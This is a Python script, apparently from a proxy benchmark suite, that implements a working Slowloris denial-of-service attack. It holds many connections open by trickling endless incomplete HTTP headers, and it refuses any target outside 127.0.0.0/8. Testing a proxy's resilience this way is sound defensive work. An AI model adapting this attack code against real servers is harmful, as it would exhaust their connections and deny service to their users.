#!/usr/bin/env python3
"""Slowloris attacker for bench/run (scenario "slowloris"): keep N connections to 127.0.0.1 open,
each trickling a valid HTTP/1.1 request head one byte every --interval seconds, never finishing it.

The head is a request line, a Host header and then an endless run of "X-Pad: x" header lines, so
every prefix the proxy sees is a valid, incomplete request head; at one byte every 2 s it would
take hours to reach any head-size limit. The proxy's header timeout is what ends a connection.
Like the real tool, the attacker then reconnects that slot at once (--no-reconnect: it does not),
so about N stay open all the time. Each slot sends its bytes at its own random phase of the
interval, so the trickle is spread evenly (N / interval bytes per second in all).

Protocol with the caller:
  * prints "READY open=<n> failed=<n> elapsed=<s>" (and creates --ready-file) once all N are
    connected, or when --ready-deadline passes;
  * SIGUSR1 starts the measured window (its statistics start from zero);
  * SIGTERM, SIGINT or --duration ends the run: prints "DONE ..." with the window's statistics
    (average and minimum open connections, connects, connections the proxy closed, responses by
    status, connect failures), closes everything and exits 0.
Every 5 s it prints a "STAT ..." line. Bounded: N connections at most, --duration seconds at most,
a failed connect is retried after 0.5 s, a slot reconnects at most once per --min-gap seconds.
Only 127.0.0.0/8.
"""
import argparse
import errno
import heapq
import ipaddress
import os
import random
import selectors
import signal
import socket
import sys
import time

PREFIX = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: bench-slowloris\r\n"
PAD = b"X-Pad: x\r\n"


class Slot:
    __slots__ = ("idx", "sock", "connected", "pos", "last_connect", "gen")

    def __init__(self, idx):
        self.idx = idx
        self.sock = None
        self.connected = False
        self.pos = 0
        self.last_connect = 0.0
        self.gen = 0  # bumped on every (re)connect so stale timer entries are ignored


def head_byte(pos):
    if pos < len(PREFIX):
        return PREFIX[pos:pos + 1]
    i = (pos - len(PREFIX)) % len(PAD)
    return PAD[i:i + 1]


class Stats:
    def __init__(self, now):
        self.reset(now, 0)

    def reset(self, now, open_now):
        self.t0 = now
        self.last = now
        self.area = 0.0
        self.min_open = open_now
        self.connects = 0
        self.closed_by_peer = 0
        self.connect_failed = 0
        self.statuses = {}

    def tick(self, now, open_now):
        self.area += open_now * (now - self.last)
        self.last = now
        self.min_open = min(self.min_open, open_now)

    def avg_open(self):
        span = self.last - self.t0
        return self.area / span if span > 0 else float(self.min_open)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=2.0, help="seconds between two bytes of one connection")
    ap.add_argument("--duration", type=float, default=120.0, help="hard limit on the whole run, seconds")
    ap.add_argument("--ready-deadline", type=float, default=30.0)
    ap.add_argument("--ready-file")
    ap.add_argument("--min-gap", type=float, default=0.1, help="least time between two connects of one slot")
    ap.add_argument("--no-reconnect", action="store_true")
    a = ap.parse_args()

    if not ipaddress.ip_address(a.host).is_loopback:
        sys.exit("refusing to attack %s: only 127.0.0.0/8 is allowed" % a.host)
    if not (1 <= a.count <= 20000 and 0.05 <= a.interval <= 60 and 1 <= a.duration <= 3600):
        sys.exit("--count must be 1..20000, --interval 0.05..60 s, --duration 1..3600 s")

    sel = selectors.DefaultSelector()
    slots = [Slot(i) for i in range(a.count)]
    timers = []  # (due, slot index, generation)
    start = time.monotonic()
    stats = Stats(start)
    open_now = 0
    ready = False
    flags = {"stop": False, "mark": False}
    signal.signal(signal.SIGTERM, lambda *_: flags.__setitem__("stop", True))
    signal.signal(signal.SIGINT, lambda *_: flags.__setitem__("stop", True))
    signal.signal(signal.SIGUSR1, lambda *_: flags.__setitem__("mark", True))

    def connect(s, now):
        nonlocal open_now
        s.gen += 1
        s.pos = 0
        s.connected = False
        s.last_connect = now
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        s.sock = sock
        err = sock.connect_ex((a.host, a.port))
        if err not in (0, errno.EINPROGRESS):
            fail_connect(s, now)
            return
        sel.register(sock, selectors.EVENT_WRITE, s)

    def fail_connect(s, now):
        stats.connect_failed += 1
        drop(s)
        heapq.heappush(timers, (now + 0.5, s.idx, s.gen))

    def drop(s):
        nonlocal open_now
        if s.sock is not None:
            try:
                sel.unregister(s.sock)
            except (KeyError, ValueError):
                pass
            s.sock.close()
            s.sock = None
        if s.connected:
            open_now -= 1
            s.connected = False
        s.gen += 1

    def closed_by_peer(s, now):
        stats.closed_by_peer += 1
        drop(s)
        if not a.no_reconnect:
            heapq.heappush(timers, (max(now, s.last_connect + a.min_gap), s.idx, s.gen))

    def send_next(s, now):
        try:
            s.sock.send(head_byte(s.pos))
            s.pos += 1
        except BlockingIOError:
            pass
        except OSError:
            closed_by_peer(s, now)
            return
        heapq.heappush(timers, (now + a.interval, s.idx, s.gen))

    for s in slots:
        connect(s, start)

    next_stat = start + 5
    deadline = start + a.duration
    while not flags["stop"]:
        now = time.monotonic()
        if now >= deadline:
            break
        if flags["mark"]:
            flags["mark"] = False
            stats.reset(now, open_now)
            print("MARK open=%d" % open_now, flush=True)
        wait = min(deadline, next_stat) - now
        if timers:
            wait = min(wait, timers[0][0] - now)
        for key, mask in sel.select(max(0.0, min(wait, 0.5))):
            s = key.data
            now = time.monotonic()
            stats.tick(now, open_now)
            if not s.connected:
                err = s.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    fail_connect(s, now)
                    continue
                s.connected = True
                open_now += 1
                stats.connects += 1
                sel.modify(s.sock, selectors.EVENT_READ, s)
                # The first byte at a random phase of the interval spreads the trickle evenly.
                heapq.heappush(timers, (now + random.random() * a.interval, s.idx, s.gen))
                continue
            try:
                data = s.sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                if data.startswith(b"HTTP/1."):
                    code = data[9:12].decode("latin-1", "replace")
                    stats.statuses[code] = stats.statuses.get(code, 0) + 1
                continue  # the close follows
            closed_by_peer(s, now)
        now = time.monotonic()
        while timers and timers[0][0] <= now:
            _, idx, gen = heapq.heappop(timers)
            s = slots[idx]
            if gen != s.gen:
                continue
            stats.tick(now, open_now)
            if s.sock is None:
                connect(s, now)
            elif s.connected:
                send_next(s, now)
        stats.tick(now, open_now)
        if not ready and (open_now >= a.count or now - start >= a.ready_deadline):
            ready = True
            print("READY open=%d failed=%d elapsed=%.2f" % (open_now, stats.connect_failed, now - start), flush=True)
            if a.ready_file:
                with open(a.ready_file, "w") as f:
                    f.write("%d\n" % open_now)
        if now >= next_stat:
            next_stat = now + 5
            print("STAT t=%.1f open=%d connects=%d closed_by_peer=%d connect_failed=%d" % (
                now - start, open_now, stats.connects, stats.closed_by_peer, stats.connect_failed), flush=True)

    now = time.monotonic()
    stats.tick(now, open_now)
    statuses = ",".join("%s:%d" % kv for kv in sorted(stats.statuses.items())) or "-"
    print("DONE window=%.1f avg_open=%.0f min_open=%d open=%d connects=%d closed_by_peer=%d responses=%s connect_failed=%d" % (
        now - stats.t0, stats.avg_open(), stats.min_open, open_now, stats.connects, stats.closed_by_peer,
        statuses, stats.connect_failed), flush=True)
    for s in slots:
        if s.sock is not None:
            s.sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
